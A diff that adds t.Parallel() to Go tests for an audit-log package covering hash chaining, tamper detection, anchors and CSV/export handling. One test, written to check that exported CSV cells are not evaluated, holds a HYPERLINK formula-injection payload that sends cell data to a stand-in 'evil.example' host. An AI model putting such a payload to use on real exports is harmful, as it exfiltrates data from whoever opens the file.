@@ -44,6 +44,7 @@ func verify(entries []audit.Entry, head *audit.Head) (audit.Report, error) {
 }
 
 func TestSealChainsEntries(t *testing.T) {
+	t.Parallel()
 	entries, head := chain(t, 0, 3)
 	if head.Seq != 3 || head.Hash != entries[2].Fields["hash"] {
 		t.Errorf("head = %+v; want seq 3 and the last entry's hash", head)
@@ -67,6 +68,7 @@ func TestSealChainsEntries(t *testing.T) {
 // The canonical encoding is documented byte for byte: a verifier in
 // another language depends on it.
 func TestCanonicalIsDocumented(t *testing.T) {
+	t.Parallel()
 	got := string(audit.Canonical(map[string]string{"seq": "1", "event": "decision", "by": "U1", "hash": "ignored"}))
 	want := "countersign-audit-v1\n2:by2:U1\n5:event8:decision\n3:seq1:1\n"
 	if got != want {
@@ -77,6 +79,7 @@ func TestCanonicalIsDocumented(t *testing.T) {
 // Every way of tampering with a chain is found, at the entry where it
 // happens, and named.
 func TestVerifyFindsTampering(t *testing.T) {
+	t.Parallel()
 	tests := []struct {
 		name   string
 		tamper func(es []audit.Entry, h *audit.Head) []audit.Entry
@@ -144,6 +147,7 @@ func TestVerifyFindsTampering(t *testing.T) {
 }
 
 func TestVerifyAcceptsAnIntactChain(t *testing.T) {
+	t.Parallel()
 	entries, head := chain(t, 2, 5)
 	rep, err := verify(entries, &head)
 	if err != nil || rep.Entries != 5 || rep.Before != 2 || rep.First != 1 || rep.Last != (audit.Head{Hash: head.Hash, Seq: 5}) {
@@ -173,6 +177,7 @@ func TestVerifyAcceptsAnIntactChain(t *testing.T) {
 }
 
 func TestExportRoundTrip(t *testing.T) {
+	t.Parallel()
 	entries, _ := chain(t, 1, 3)
 	entries[2].Fields["reason"] = "line one\r\nline two, \"quoted\"\n<b>&</b>"
 	entries[2].Fields["args"] = `{"url":"https://example.com/?a=1&b=2"}`
@@ -226,6 +231,7 @@ func readAll(t *testing.T, s string, f audit.Format) []audit.Entry {
 }
 
 func TestReaderRefusesWhatWriterDoesNotWrite(t *testing.T) {
+	t.Parallel()
 	tests := []struct {
 		format audit.Format
 		in     string
@@ -284,6 +290,7 @@ func rechain(t *testing.T, entries []audit.Entry, i int) []audit.Entry {
 // against an anchor at or after that entry; an anchor the chain does not
 // reach, or that is older than its oldest entry, is not held either.
 func TestVerifyAgainstAnAnchor(t *testing.T) {
+	t.Parallel()
 	entries, head := chain(t, 0, 5)
 	original, _ := head.Anchor()
 	anchor := func(i int) audit.Anchor {
@@ -337,6 +344,7 @@ func TestVerifyAgainstAnAnchor(t *testing.T) {
 }
 
 func TestParseAnchor(t *testing.T) {
+	t.Parallel()
 	hash := strings.Repeat("9c1f", 16)
 	if a, err := audit.ParseAnchor(" 1799:" + strings.ToUpper(hash) + "\n"); err != nil || a != (audit.Anchor{Seq: 1799, Hash: hash}) || a.String() != "1799:"+hash {
 		t.Errorf("ParseAnchor = %+v, %v; want seq 1799 and the hash in lower case", a, err)
@@ -352,6 +360,7 @@ func TestParseAnchor(t *testing.T) {
 // for a formula is written as text: quoted, after a single quote; it
 // reads back as it was, and the entry still verifies.
 func TestCSVCellsAreNotFormulas(t *testing.T) {
+	t.Parallel()
 	entries, _ := chain(t, 0, 2)
 	const formula = `=HYPERLINK("https://evil.example/?d="&B2&C2,"Click for details")`
 	entries[0].Fields["reason"] = formula
